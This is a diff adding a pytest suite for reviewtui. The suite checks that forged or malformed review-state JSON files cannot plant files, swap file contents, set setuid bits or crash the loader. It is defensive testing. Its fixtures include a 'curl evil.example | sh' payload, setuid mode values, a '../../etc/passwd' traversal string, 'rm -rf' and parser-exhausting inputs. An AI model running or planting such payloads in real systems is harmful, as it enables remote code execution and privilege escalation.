@@ -1,0 +1,196 @@
+"""Threat: a ``*.review.json`` shipped with a session.
+
+A state file records decisions. It is never a source of content or modes for a path the
+session does not touch, a record the disk does not bear out is reported and ignored, and
+a file whose shape is wrong is moved aside with one line.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import stat
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hostile_statekit import accept_entry, forge_state, put_blob, write_markdown_session
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from reviewtui.core.tree import FileState
+from reviewtui.shell.review import Review
+from reviewtui.shell.state import StateFile, decode_record, op_fingerprint
+
+EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"
+
+
+def _session(arena_work: Path) -> Path:
+    return write_markdown_session(arena_work / "s.md", [[("a.txt", "a", "b")]])
+
+
+def _state(session: Path) -> Path:
+    return session.with_name(session.name + ".review.json")
+
+
+def test_state_cannot_create_a_path_no_operation_touches(arena: Any) -> None:
+    (arena.root / "a.txt").write_text("a\n")
+    session = _session(arena.work)
+    state = _state(session)
+    sha = put_blob(state, EVIL)
+    forge_state(state, paths={"run.sh": {"base": {"sha": sha, "mode": 0o6777}, "seen": None,
+                                         "ref": None, "outside": False, "deleted": False}})
+    with Review.open(session, arena.root) as review:
+        assert not (arena.root / "run.sh").exists()
+        (problem,) = review.state_problems
+        assert "run.sh" in problem
+        assert "no operation of the session touches it" in problem
+    assert sorted(p.name for p in arena.root.iterdir()) == ["a.txt"]
+
+
+def test_state_cannot_swap_the_original_of_a_touched_file(arena: Any) -> None:
+    disk = b"a\n"
+    (arena.root / "a.txt").write_bytes(disk)
+    session = _session(arena.work)
+    state = _state(session)
+    sha = put_blob(state, EVIL)
+    forge_state(state, paths={"a.txt": {"base": {"sha": sha, "mode": 0o4755},
+                                        "seen": hashlib.sha256(disk).hexdigest(),
+                                        "ref": None, "outside": False, "deleted": False}})
+    with Review.open(session, arena.root) as review:
+        assert (arena.root / "a.txt").read_bytes() == disk
+        (problem,) = review.state_problems
+        assert "a.txt" in problem
+        assert "not what this review left there" in problem
+        assert review.base.get("a.txt") == FileState.from_bytes(disk, mode=0o644)
+
+
+def test_forged_original_under_an_accepted_edit_is_not_replayed(arena: Any) -> None:
+    disk = b"a\n"
+    (arena.root / "a.txt").write_bytes(disk)
+    session = _session(arena.work)
+    state = _state(session)
+    forged = b"a\n" + EVIL
+    sha = put_blob(state, forged)
+    from reviewtui.shell.loader import load_session
+
+    op = load_session(session).session.turns[0].reply.ops[0]
+    forge_state(state, log=[accept_entry(1, 0, "a.txt", op_fingerprint(op))],
+                paths={"a.txt": {"base": {"sha": sha, "mode": 0o644},
+                                 "seen": hashlib.sha256(disk).hexdigest(), "ref": None,
+                                 "outside": False, "deleted": False}})
+    with Review.open(session, arena.root) as review:
+        # The decision stands; the forged original does not: the edit lands on the disk.
+        assert (arena.root / "a.txt").read_bytes() == b"b\n"
+        assert any("ignored the saved record of a.txt" in p for p in review.state_problems)
+
+
+def test_modes_from_any_source_are_permission_bits_only() -> None:
+    assert FileState.from_bytes(b"x", mode=0o106777).mode == 0o777
+    assert FileState.from_text("x", mode=0o4755).mode == 0o755
+
+
+def test_a_saved_mode_is_masked_to_permission_bits(arena: Any) -> None:
+    state = _state(arena.work / "s.md")
+    sha = put_blob(state, b"a\n")
+    record, why = decode_record("a.txt", {"base": {"sha": sha, "mode": 0o6777}, "seen": None},
+                                StateFile(state).blobs)
+    assert why == ""
+    assert record is not None
+    assert record.base is not None
+    assert record.base.mode == 0o777
+
+
+BAD_STATES = {
+    "negative checkpoint": {"log": [{"kind": "restore", "checkpoint": -1}]},
+    "negative turn": {"log": [{"kind": "decide", "items": [
+        {"turn": -3, "pos": 0, "path": "a.txt", "op": "0" * 16, "verdict": "accepted"}]}]},
+    "bool as position": {"log": [{"kind": "decide", "items": [
+        {"turn": 1, "pos": True, "path": "a.txt", "op": "0" * 16, "verdict": "accepted"}]}]},
+    "unknown kind": {"log": [{"kind": "rm -rf"}]},
+    "unknown verdict": {"log": [{"kind": "decide", "items": [
+        {"turn": 1, "pos": 0, "path": "a.txt", "op": "0" * 16, "verdict": "maybe"}]}]},
+    "mode of 2**68": {"paths": {"a.txt": {"base": {"sha": "0" * 64, "mode": 2**68}}}},
+    "mode with type bits": {"paths": {"a.txt": {"base": {"sha": "0" * 64, "mode": 0o100644}}}},
+    "sha that is not one": {"paths": {"a.txt": {"base": {"sha": "../../etc/passwd",
+                                                         "mode": 0o644}}}},
+    "seen that is not a sha": {"paths": {"a.txt": {"seen": 7}}},
+    "infinite seconds": {"log": [{"kind": "decide", "items": [], "seconds": 1e400}]},
+    "ui checkpoint below zero": {"ui": {"checkpoint": -5}},
+}
+
+
+def _forged_text(extra: dict[str, object]) -> str:
+    doc: dict[str, object] = {"format": "reviewtui-review-state", "version": 1,
+                              "session": {"sha256": ""}}
+    doc.update(extra)
+    return json.dumps(doc)
+
+
+@pytest.mark.parametrize("text", [
+    *(pytest.param(_forged_text(extra), id=name) for name, extra in BAD_STATES.items()),
+    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "ui": '
+                 + "[" * 100_000 + "]" * 100_000 + "}", id="nested 100000 deep"),
+    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "ui": '
+                 + '{"a": ' * 20 + "1" + "}" * 20 + "}", id="nested 20 deep"),
+    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "log": '
+                 '[{"kind": "restore", "checkpoint": ' + "9" * 5000 + "}]}",
+                 id="5000-digit int"),
+])
+def test_a_malformed_state_is_moved_aside_with_one_line(arena: Any, text: str) -> None:
+    (arena.root / "a.txt").write_text("a\n")
+    session = _session(arena.work)
+    state = _state(session)
+    state.write_text(text)
+    with Review.open(session, arena.root) as review:
+        (problem,) = review.state_problems
+        assert "\n" not in problem
+        assert str(state) in problem
+        assert "moved aside" in problem
+        assert "set_int_max_str_digits" not in problem
+        assert review.decisions == {}
+        assert review.disk_checkpoint is None
+    (aside,) = arena.work.glob("s.md.review.json.corrupt-*")
+    assert aside.read_text() == text
+    assert (arena.root / "a.txt").read_text() == "a\n"
+    assert stat.S_IMODE((arena.root / "a.txt").stat().st_mode) & 0o7000 == 0
+
+
+_JSON = st.recursive(
+    st.none() | st.booleans() | st.integers(min_value=-(2**70), max_value=2**70)
+    | st.floats(allow_nan=True) | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner,
+                                                                 max_size=4),
+    max_leaves=20)
+_FIELDS = st.sampled_from(["log", "paths", "ui", "orphaned", "root", "session", "version"])
+
+
+@settings(max_examples=150, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(field=_FIELDS, value=_JSON, item=_JSON)
+def test_any_json_in_a_state_file_loads_or_is_moved_aside(
+    tmp_path: Path, field: str, value: Any, item: Any
+) -> None:
+    """Whatever a field holds, loading never raises, and a refusal is one line."""
+    doc: dict[str, Any] = {"format": "reviewtui-review-state", "version": 1,
+                           "session": {"sha256": ""},
+                           "log": [{"kind": "decide", "items": [item]}]}
+    doc[field] = value
+    state = tmp_path / "fuzz.review.json"
+    state.write_text(json.dumps(doc))
+    loaded, problems = StateFile(state).load()
+    if loaded is None:
+        (problem,) = problems
+        assert "\n" not in problem
+        assert "moved aside" in problem
+        for aside in tmp_path.glob("fuzz.review.json.corrupt-*"):
+            aside.unlink()
+    else:
+        assert problems == []
+        for entry in loaded.log:
+            for decided in entry.items:
+                assert 0 <= decided.turn < 2**31
+                assert 0 <= decided.pos < 2**31
+        for record in loaded.paths.values():
+            base = record.get("base")
+            assert base is None or 0 <= base["mode"] <= 0o7777
